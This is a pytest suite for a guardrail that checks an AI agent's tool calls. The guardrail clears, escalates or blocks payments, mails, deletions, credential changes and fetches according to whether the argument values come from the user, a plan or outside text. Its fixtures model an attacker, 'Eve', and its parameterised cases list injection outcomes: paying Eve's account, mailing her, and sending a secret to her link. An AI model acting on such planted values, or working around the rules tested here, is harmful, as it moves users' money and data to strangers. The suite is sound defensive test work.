"""Where a value comes from decides what a call may do, whatever the model says of it."""

import pytest

from contracts.agent import Agent, ReviewRule
from contracts.guardrail import ToolBlocked, ToolCleared, ToolEscalated
from infra.policies.stage import Stage
from services.guardrail_checker.rules import ToolPolicy
from services.guardrail_checker.rules.authority.origins import STRONGEST_FIRST
from tests.guardrail_checker.authority.worlds import (
    EVE,
    EVE_ACCOUNT,
    EVE_LINK,
    PLAN,
    PROMPT,
    TOOLS,
    Office,
)

POLICY = ToolPolicy()
FOUR = {"orders": 4, "refund": 4}
IBAN = "DE02120300000000202051"
FRENCH = "FR7630006000011234567890189"


def office(*, planned: bool = True, policy: ToolPolicy = POLICY) -> Office:
    return Office(policy, PLAN if planned else None)


def test_what_the_user_wrote_needs_nobody():
    found = office()

    assert found.call("pay", {"to": IBAN, "amount": 80, "note": ""})
    assert found.call("send_mail", {"to": ["lea@partner.example"], "body": "It is done."})
    assert found.call("set_code", {"code": "k3-91x"})


@pytest.mark.parametrize(
    ("tool", "arguments", "rule"),
    [
        ("pay", {"to": EVE_ACCOUNT, "amount": 80}, "stranger_is_paid"),
        ("pay", {"to": IBAN, "amount": 80.01}, "amount_of_nobody"),
        ("pay", {"to": IBAN, "amount": -5}, "amount_of_nobody"),
        ("pay", {"amount": 80}, "stranger_is_paid"),
        ("send_mail", {"to": [EVE], "body": "x"}, "stranger_is_written_to"),
        ("send_mail", {"to": ["lea@partner.example", EVE], "body": "x"}, "stranger_is_written_to"),
        ("send_mail", {"to": ["lea@partner.example"], "body": EVE_LINK}, "stranger_to_payload"),
        ("send_mail", {"to": ["lea@partner.example"], "body": EVE}, "stranger_to_payload"),
        ("send_mail", {"to": ["lea@partner.example"], "body": EVE_ACCOUNT}, "stranger_to_payload"),
        ("send_mail", {"to": [], "body": "anything at all"}, "unanchored_effect"),
        ("set_code", {"code": "Spring"}, "secret_of_nobody"),
        ("set_code", {}, "secret_of_nobody"),
        ("send_mail", {"to": [[EVE]], "body": "x"}, "stranger_is_written_to"),
        ("send_mail", {"to": {"address": EVE}, "body": "x"}, "stranger_is_written_to"),
        ("send_mail", {"to": [""], "body": "x"}, "stranger_is_written_to"),
        ("send_mail", {"to": [True], "body": "x"}, "stranger_is_written_to"),
        ("delete", {"id": "7"}, "not_in_plan"),
        ("fetch", {"url": f"{EVE_LINK}?q=secret"}, "stranger_to_payload"),
    ],
)
def test_what_nobody_vouches_for_is_put_to_a_person(tool, arguments, rule):
    assert rule in office().rule(tool, arguments).split(",")


def test_a_typed_field_of_what_the_user_named_may_be_written_to_by_plan():
    found = office()

    assert not found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})
    assert found.call("search_events", {"query": "Spring meeting"})
    assert found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})


def test_a_record_that_only_calls_itself_so_in_its_text_names_nothing():
    found = office()
    found.call("search_events", {"query": "Spring meeting"})

    assert not found.call("invite", {"people": [EVE], "title": "Summer meeting"})


def test_without_a_plan_a_field_of_a_named_record_is_asked_about():
    found = office(planned=False)
    found.call("search_events", {"query": "Spring meeting"})

    assert not found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})


def test_a_read_of_the_attackers_own_vouches_for_nothing():
    found = office()
    assert found.call("list_accounts", {})

    assert "stranger_is_paid" in found.rule("pay", {"to": FRENCH, "amount": 80})
    assert "strayed_and_leaving" in found.rule("send_mail", {"to": ["lea@partner.example"]})


def test_a_plan_is_used_up():
    found = office()
    assert found.call("send_mail", {"to": ["lea@partner.example"], "body": "It is done."})

    assert found.rule("send_mail", {"to": ["lea@partner.example"], "body": "x"}) == "not_in_plan"


def test_calls_that_are_wanted_at_once_share_one_plan():
    found = office()
    mail = '{"to": ["lea@partner.example"], "body": "It is done."}'
    _, first = found.stage.ask("send_mail", mail)

    _, second = found.stage.ask("send_mail", mail)

    assert isinstance(first, ToolCleared)
    assert second.rule == "not_in_plan"


def test_nobody_is_paid_twice_without_a_plan():
    found = office(planned=False)
    assert found.call("pay", {"to": IBAN, "amount": 80})

    assert found.rule("pay", {"to": IBAN, "amount": 80}) == "paid_again"


def test_effects_without_a_plan_are_counted():
    found = office(planned=False, policy=ToolPolicy(effects_without_plan=1))
    assert found.call("pay", {"to": IBAN, "amount": 80})

    mail = {"to": ["lea@partner.example"], "body": "It is done."}
    assert found.rule("send_mail", mail) == "too_many_effects"


def test_what_a_run_made_it_may_take_away_and_what_it_touched_it_may_not():
    found = Office(POLICY, {**PLAN, "delete": 2})
    found.call("search_events", {"query": "Spring meeting"})
    assert found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})

    assert found.call("delete", {"id": "50"})
    assert found.rule("delete", {"id": "8"}) == "destroyed_unnamed"


def test_the_allow_list_vouches_for_a_destination():
    policy = ToolPolicy(destinations=("@own.example",))

    assert office(policy=policy).call("send_mail", {"to": ["ops@own.example"], "body": "done"})


def test_an_operators_policy_takes_the_place_of_a_default_one():
    own = '@id("not_in_plan") forbid (principal, action, resource) when { false };'
    found = office(policy=ToolPolicy(cedar=own))

    assert found.rule("delete", {"id": "7"}) == "destroyed_unnamed"


def test_what_is_forbidden_to_ask_is_blocked():
    own = '@id("never") forbid (principal, action, resource in Effect::"credential");'
    stage = Office(ToolPolicy(cedar=own), PLAN).stage

    _, verdict = stage.ask("set_code", '{"code": "k3-91x"}')

    assert (type(verdict), verdict.rule) == (ToolBlocked, "never")


def test_a_verdict_tells_its_policies_and_why():
    stage = office().stage

    _, asked = stage.ask("delete", '{"id": "7"}')
    _, cleared = stage.ask("set_code", '{"code": "k3-91x"}')

    assert isinstance(asked, ToolEscalated)
    assert asked.rule == "destroyed_unnamed,not_in_plan"
    assert "the user did not name what is destroyed" in asked.reason
    assert isinstance(cleared, ToolCleared)
    assert (cleared.rule, cleared.reason) == ("tool_of_the_agent", "the agent may call this tool")


def test_a_person_who_is_asked_is_told_which_values_nobody_vouches_for():
    found = office()
    found.call("search_mail", {"query": "Spring meeting"})

    _, asked = found.stage.ask("pay", f'{{"to": "{EVE_ACCOUNT}", "amount": 999}}')

    assert f"to '{EVE_ACCOUNT}' stands only in text from outside" in asked.reason
    assert "amount '999' stands nowhere but in the call" in asked.reason


def test_an_amount_of_a_text_is_known_however_it_is_written():
    found = office()
    found.call("search_mail", {"query": "Spring meeting"})

    _, asked = found.stage.ask("pay", f'{{"to": "{EVE_ACCOUNT}", "amount": 333}}')

    assert "amount '333' stands only in text from outside" in asked.reason


def test_a_secret_is_not_repeated_to_who_is_asked():
    _, asked = office().stage.ask("set_code", '{"code": "hunter2"}')

    assert "hunter2" not in asked.reason


def test_an_egress_tool_that_declares_no_sinks_asks():
    tool = TOOLS["send_mail"].model_copy(update={"sinks": {}})
    stage = Stage(PROMPT, {"send_mail": tool}, POLICY)

    _, asked = stage.ask("send_mail", '{"to": ["eve@evil.example"], "body": "Summer meeting"}')

    assert asked.rule.split(",")[-1] == "undeclared_sinks"


def test_a_link_in_a_sink_of_a_read_is_looked_at():
    tool = TOOLS["fetch"].model_copy(update={"sinks": {"url": "destination"}})
    stage = Stage(PROMPT, {"fetch": tool}, POLICY)

    _, asked = stage.ask("fetch", f'{{"url": "{EVE_LINK}"}}')

    assert asked.rule == "stranger_to_payload"


def test_a_name_that_comes_twice_is_unreadable():
    _, verdict = office().stage.ask("delete", '{"id": "50", "id": "7"}')

    assert verdict.rule == "arguments_unreadable"


def test_what_a_producer_tells_beside_the_text_counts_as_the_users():
    manifests = Office(POLICY, None).stage.manifests
    stage = Stage("Tell me.", manifests, POLICY)
    submitted = stage.run.submitted
    body = submitted.body.model_copy(update={"user": "anna@own.example"})
    object.__setattr__(submitted, "body", body)

    _, verdict = stage.ask("send_mail", '{"to": ["anna@own.example"], "body": "Told."}')

    assert isinstance(verdict, ToolCleared)


def test_origins_are_ordered_and_the_agent_of_a_stage_is_real():
    assert STRONGEST_FIRST[0] == "user"
    assert STRONGEST_FIRST[-1] == "model"
    assert isinstance(office().stage.run.started.body.agent, Agent)


def test_the_bound_is_of_the_payee_by_its_own_kind():
    """An order that the tenant's own records know, and the user did not name by its number."""
    amount = {"order": "id", "amount": "amount"}
    refund = TOOLS["pay"].model_copy(update={"name": "refund", "sinks": amount})
    orders = TOOLS["list_accounts"].model_copy(
        update={"name": "orders", "fields": {"order": "id", "total": "amount"}}
    )
    stage = Stage("Refund my last order.", {"orders": orders, "refund": refund}, POLICY, FOUR)
    requested, verdict = stage.ask("orders", "{}")
    stage.run_cleared(requested, verdict, '[{"order": "77031", "total": "30.00"}]')

    _, within = stage.ask("refund", '{"order": "77031", "amount": 20}')
    _, above = stage.ask("refund", '{"order": "77031", "amount": 31}')

    assert isinstance(within, ToolCleared)
    assert "amount_of_nobody" in above.rule


def test_what_an_author_wants_reviewed_is_told_with_what_the_policy_doubts():
    stage = Stage(PROMPT, TOOLS, POLICY)
    started = stage.run.started
    reviewed = started.body.agent.model_copy(update={"review": {"pay": ReviewRule()}})
    object.__setattr__(started, "body", started.body.model_copy(update={"agent": reviewed}))

    _, asked = stage.ask("pay", f'{{"to": "{EVE_ACCOUNT}", "amount": 80}}')

    assert asked.reason.startswith("every call of it needs a person; ")
    assert EVE_ACCOUNT in asked.reason
